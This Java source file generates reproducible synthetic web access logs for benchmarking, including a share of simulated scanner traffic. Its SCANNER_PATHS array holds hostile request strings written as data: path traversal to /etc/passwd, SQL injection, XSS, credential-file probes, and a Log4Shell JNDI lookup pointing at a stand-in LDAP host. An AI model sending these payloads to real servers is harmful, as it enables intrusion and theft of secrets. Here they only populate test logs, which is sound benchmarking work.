package dev.logverdict.bench;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.time.format.DateTimeParseException;
import java.util.Arrays;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.zip.GZIPOutputStream;

/**
 * Writes a realistic Apache/Nginx {@code combined} access log for benchmarks and load tests, the same bytes
 * for the same arguments. Clients come from a pool of {@code --unique} addresses (IPv4 from public and
 * private ranges, IPv6 in RFC 5952 canonical text) drawn with a heavy-tailed (Zipf) weight mixed with a
 * uniform share, as real traffic has a few busy clients and a long tail; part of the traffic is scanners
 * probing for files and injections. {@code --stats} prints the ground truth (what was actually written)
 * as JSON on standard error, for checking a scan against it.
 *
 * <pre>
 * ./mvnw -q test-compile
 * java -cp target/test-classes dev.logverdict.bench.AccessLogGenerator --lines 5000000 --unique 100000 --seed 42 /tmp/access_1g.log
 * java -cp target/test-classes dev.logverdict.bench.AccessLogGenerator --lines 1000 --unique 50 --gzip --stats /tmp/small.log.gz
 * </pre>
 */
public final class AccessLogGenerator {

    /** What can be set on the command line; every field has a default fit for a quick run. */
    record Settings(
            long lines,
            int unique,
            long seed,
            boolean gzip,
            double ipv6Share,
            double privateShare,
            double zipfExponent,
            double uniformShare,
            double scannerShare,
            Instant start,
            int days,
            boolean stats,
            Path output) {}

    /** What was written: distinct clients by family and range, lines and bytes. */
    record Stats(
            long lines,
            long bytes,
            int distinctClients,
            int ipv4Clients,
            int ipv6Clients,
            int privateClients,
            long scannerLines) {

        String json() {
            Map<String, Object> fields = new LinkedHashMap<>();
            fields.put("lines", lines);
            fields.put("bytes", bytes);
            fields.put("distinctClients", distinctClients);
            fields.put("ipv4Clients", ipv4Clients);
            fields.put("ipv6Clients", ipv6Clients);
            fields.put("privateClients", privateClients);
            fields.put("publicClients", distinctClients - privateClients);
            fields.put("scannerLines", scannerLines);
            StringBuilder json = new StringBuilder("{");
            fields.forEach((name, value) -> json.append(json.length() > 1 ? ", " : "")
                    .append('"')
                    .append(name)
                    .append("\": ")
                    .append(value));
            return json.append('}').toString();
        }
    }

    // First octets of ranges allocated to RIRs and operators, none special-purpose (RFC 6890).
    private static final int[] PUBLIC_V4_FIRST_OCTETS = {
        23, 31, 37, 45, 52, 62, 77, 81, 88, 91, 95, 103, 109, 141, 151, 176, 185, 193, 212, 217
    };
    // Global unicast prefixes of real networks (2000::/3, outside 2001:db8::/32 and other special blocks).
    private static final int[][] PUBLIC_V6_PREFIXES = {
        {0x2a0b, 0x4340}, {0x2600, 0x1f18}, {0x2a01, 0x4f8}, {0x2001, 0x4860}, {0x2c0f, 0xf7a8}, {0x2406, 0xda00}
    };
    private static final String[] METHODS = {"GET", "GET", "GET", "GET", "GET", "GET", "POST", "POST", "HEAD", "PUT"};
    private static final String[] PATHS = {
        "/",
        "/index.html",
        "/about",
        "/products?id=",
        "/search?q=shoes&page=",
        "/static/app.js",
        "/static/style.css",
        "/images/logo.png",
        "/api/v1/items/",
        "/blog/2026/11/post-",
        "/favicon.ico",
        "/robots.txt",
        "/login",
        "/cart",
        "/checkout"
    };
    private static final String[] SCANNER_PATHS = {
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/xmlrpc.php",
        "/phpmyadmin/index.php",
        "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
        "/index.php?id=1%27%20OR%20%271%27=%271",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/server-status",
        "/actuator/env",
        "/.aws/credentials",
        "/admin/config.php",
        "/?x=${jndi:ldap://198.51.100.9:1389/a}"
    };
    private static final String[] AGENTS = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "curl/8.4.0",
        "python-requests/2.31.0",
        "-"
    };
    private static final String[] SCANNER_AGENTS = {
        "sqlmap/1.7.11#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) nuclei"
    };
    private static final String[] REFERRERS = {
        "-",
        "-",
        "-",
        "https://www.google.com/",
        "https://www.bing.com/search?q=shop",
        "https://shop.example.com/products?id=2291&utm_source=newsletter&utm_medium=email",
        "https://shop.example.com/search?q=running+shoes&page=2",
        "https://shop.example.com/cart",
        "https://news.ycombinator.com/item?id=38541234"
    };
    private static final int[] STATUSES = {200, 200, 200, 200, 200, 200, 304, 301, 302, 404, 404, 403, 500};
    private static final DateTimeFormatter CLF_TIME =
            DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT).withZone(ZoneOffset.UTC);

    private AccessLogGenerator() {}

    public static void main(String[] args) throws IOException {
        Settings settings;
        try {
            settings = parse(args);
        } catch (IllegalArgumentException e) {
            System.err.println("AccessLogGenerator: " + e.getMessage());
            System.err.println("usage: AccessLogGenerator [--lines N] [--unique N] [--seed N] [--gzip] [--ipv6-share F]"
                    + " [--private-share F] [--zipf-s F] [--uniform-share F] [--scanner-share F]"
                    + " [--start 2026-11-27T00:00:00Z] [--days N] [--stats] OUTPUT");
            System.exit(2);
            return;
        }
        Stats stats = write(settings);
        if (settings.stats()) {
            System.err.println(stats.json());
        }
    }

    static Settings parse(String... args) {
        long lines = 100_000;
        int unique = 5_000;
        long seed = 42;
        boolean gzip = false;
        double ipv6Share = 0.10;
        double privateShare = 0.05;
        double zipf = 1.1;
        double uniformShare = 0.3;
        double scannerShare = 0.02;
        Instant start = Instant.parse("2026-11-27T00:00:00Z");
        int days = 1;
        boolean stats = false;
        Path output = null;
        for (int i = 0; i < args.length; i++) {
            String arg = args[i];
            switch (arg) {
                case "--gzip" -> gzip = true;
                case "--stats" -> stats = true;
                case "--lines",
                        "--unique",
                        "--seed",
                        "--ipv6-share",
                        "--private-share",
                        "--zipf-s",
                        "--uniform-share",
                        "--scanner-share",
                        "--start",
                        "--days" -> {
                    if (i + 1 >= args.length) {
                        throw new IllegalArgumentException(arg + " needs a value");
                    }
                    String value = args[++i];
                    try {
                        switch (arg) {
                            case "--lines" -> lines = Long.parseLong(value);
                            case "--unique" -> unique = Integer.parseInt(value);
                            case "--seed" -> seed = Long.parseLong(value);
                            case "--ipv6-share" -> ipv6Share = share(arg, value);
                            case "--private-share" -> privateShare = share(arg, value);
                            case "--zipf-s" -> zipf = Double.parseDouble(value);
                            case "--uniform-share" -> uniformShare = share(arg, value);
                            case "--scanner-share" -> scannerShare = share(arg, value);
                            case "--start" -> start = Instant.parse(value);
                            default -> days = Integer.parseInt(value);
                        }
                    } catch (DateTimeParseException | NumberFormatException e) {
                        throw new IllegalArgumentException(arg + " " + value + ": " + e.getMessage());
                    }
                }
                default -> {
                    if (arg.startsWith("--") || output != null) {
                        throw new IllegalArgumentException("unexpected argument " + arg);
                    }
                    output = Path.of(arg);
                }
            }
        }
        if (output == null) {
            throw new IllegalArgumentException("the output file is missing");
        }
        if (lines < 0 || unique < 1 || days < 1 || zipf <= 0) {
            throw new IllegalArgumentException("--lines >= 0, --unique >= 1, --days >= 1 and --zipf-s > 0 are needed");
        }
        return new Settings(
                lines,
                unique,
                seed,
                gzip,
                ipv6Share,
                privateShare,
                zipf,
                uniformShare,
                scannerShare,
                start,
                days,
                stats,
                output);
    }

    private static double share(String name, String value) {
        double share = Double.parseDouble(value);
        if (!(share >= 0 && share <= 1)) {
            throw new IllegalArgumentException(name + " is a share between 0 and 1, not " + value);
        }
        return share;
    }

    static Stats write(Settings settings) throws IOException {
        SplittableRandom random = new SplittableRandom(settings.seed());
        String[] pool = new String[settings.unique()];
        boolean[] privatePool = new boolean[settings.unique()];
        HashSet<String> taken = new HashSet<>();
        for (int i = 0; i < pool.length; i++) {
            String address;
            boolean isPrivate;
            do {
                isPrivate = random.nextDouble() < settings.privateShare();
                address = random.nextDouble() < settings.ipv6Share() && !isPrivate
                        ? ipv6(random)
                        : isPrivate ? privateIpv4(random) : publicIpv4(random);
            } while (!taken.add(address));
            pool[i] = address;
            privatePool[i] = isPrivate;
        }
        double[] cumulative = zipfCumulative(pool.length, settings.zipfExponent());
        boolean[] written = new boolean[pool.length];
        long scannerLines = 0;
        long spanSeconds = settings.days() * 86_400L;
        long bytes;
        try (OutputStream file = Files.newOutputStream(settings.output());
                OutputStream out = new BufferedOutputStream(
                        settings.gzip() ? new GZIPOutputStream(file, 1 << 16) : file, 1 << 16)) {
            StringBuilder line = new StringBuilder(256);
            long uncompressed = 0;
            for (long n = 0; n < settings.lines(); n++) {
                int client = random.nextDouble() < settings.uniformShare()
                        ? random.nextInt(pool.length)
                        : pick(cumulative, random.nextDouble());
                written[client] = true;
                boolean scanner = random.nextDouble() < settings.scannerShare();
                long second = settings.lines() <= 1 ? 0 : n * spanSeconds / settings.lines();
                line.setLength(0);
                line.append(pool[client])
                        .append(" - - [")
                        .append(CLF_TIME.format(settings.start().plusSeconds(second)))
                        .append("] \"");
                if (scanner) {
                    scannerLines++;
                    line.append(random.nextBoolean() ? "GET" : "POST")
                            .append(' ')
                            .append(SCANNER_PATHS[random.nextInt(SCANNER_PATHS.length)])
                            .append(" HTTP/1.1\" ")
                            .append(random.nextBoolean() ? 404 : 403)
                            .append(' ')
                            .append(random.nextInt(100, 600))
                            .append(" \"-\" \"")
                            .append(SCANNER_AGENTS[random.nextInt(SCANNER_AGENTS.length)]);
                } else {
                    String path = PATHS[random.nextInt(PATHS.length)];
                    line.append(METHODS[random.nextInt(METHODS.length)])
                            .append(' ')
                            .append(path);
                    if (path.endsWith("=") || path.endsWith("/") && path.length() > 1 || path.endsWith("-")) {
                        line.append(random.nextInt(1, 5_000));
                    }
                    int status = STATUSES[random.nextInt(STATUSES.length)];
                    line.append(random.nextInt(10) == 0 ? " HTTP/1.0\" " : " HTTP/1.1\" ")
                            .append(status)
                            .append(' ');
                    if (status == 304 || random.nextInt(50) == 0) {
                        line.append('-');
                    } else {
                        line.append(random.nextInt(200, 80_000));
                    }
                    line.append(" \"")
                            .append(REFERRERS[random.nextInt(REFERRERS.length)])
                            .append("\" \"")
                            .append(AGENTS[random.nextInt(AGENTS.length)]);
                }
                line.append("\"\n");
                byte[] encoded = line.toString().getBytes(StandardCharsets.US_ASCII);
                uncompressed += encoded.length;
                out.write(encoded);
            }
            bytes = uncompressed;
        }
        int distinct = 0;
        int v4 = 0;
        int v6 = 0;
        int privateClients = 0;
        for (int i = 0; i < pool.length; i++) {
            if (written[i]) {
                distinct++;
                if (pool[i].indexOf(':') >= 0) {
                    v6++;
                } else {
                    v4++;
                }
                if (privatePool[i]) {
                    privateClients++;
                }
            }
        }
        return new Stats(settings.lines(), bytes, distinct, v4, v6, privateClients, scannerLines);
    }

    private static String publicIpv4(SplittableRandom random) {
        return PUBLIC_V4_FIRST_OCTETS[random.nextInt(PUBLIC_V4_FIRST_OCTETS.length)] + "." + random.nextInt(256) + "."
                + random.nextInt(256) + "." + random.nextInt(1, 255);
    }

    private static String privateIpv4(SplittableRandom random) {
        return switch (random.nextInt(3)) {
            case 0 -> "10." + random.nextInt(256) + "." + random.nextInt(256) + "." + random.nextInt(1, 255);
            case 1 -> "192.168." + random.nextInt(256) + "." + random.nextInt(1, 255);
            default -> "172." + random.nextInt(16, 32) + "." + random.nextInt(256) + "." + random.nextInt(1, 255);
        };
    }

    /** Eight non-zero groups, lower-case hex without leading zeros: RFC 5952 text, nothing to compress. */
    private static String ipv6(SplittableRandom random) {
        int[] prefix = PUBLIC_V6_PREFIXES[random.nextInt(PUBLIC_V6_PREFIXES.length)];
        StringBuilder text =
                new StringBuilder(Integer.toHexString(prefix[0])).append(':').append(Integer.toHexString(prefix[1]));
        for (int group = 2; group < 8; group++) {
            text.append(':').append(Integer.toHexString(random.nextInt(1, 0x10000)));
        }
        return text.toString();
    }

    /** Cumulative weights 1/rank^s, normalised to end at 1. */
    private static double[] zipfCumulative(int size, double exponent) {
        double[] cumulative = new double[size];
        double sum = 0;
        for (int rank = 0; rank < size; rank++) {
            sum += 1 / Math.pow(rank + 1, exponent);
            cumulative[rank] = sum;
        }
        for (int rank = 0; rank < size; rank++) {
            cumulative[rank] /= sum;
        }
        return cumulative;
    }

    private static int pick(double[] cumulative, double point) {
        int index = Arrays.binarySearch(cumulative, point);
        return Math.min(cumulative.length - 1, index >= 0 ? index : -index - 1);
    }
}
